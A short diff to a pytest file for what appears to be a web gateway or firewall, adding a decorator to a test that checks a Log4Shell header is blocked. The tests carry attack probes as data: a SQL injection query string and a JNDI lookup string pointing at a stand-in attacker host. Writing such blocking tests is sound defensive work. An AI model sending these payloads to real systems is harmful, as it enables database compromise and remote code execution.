@@ -6,6 +6,7 @@ from __future__ import annotations
 import pytest
 
 from tests.factories import FakeModel, MiB, Spy, payload, raw_url
+from tests.factories import INTERIM_BUNDLE
 
 PROBES = [
     "/?id=1%27%20OR%201%3D1--",
@@ -26,6 +27,7 @@ async def test_attacks_are_blocked_without_reaching_the_origin(make_gateway, ups
     assert (line["status"], line["decision"], line["action"]) == (403, "block", "block")
 
 
+@INTERIM_BUNDLE
 async def test_log4shell_header_is_blocked(make_gateway, upstream):
     gw = await make_gateway()
     resp = await gw.proxy.get("/", headers={"User-Agent": "${jndi:ldap://attacker.example/a}"})
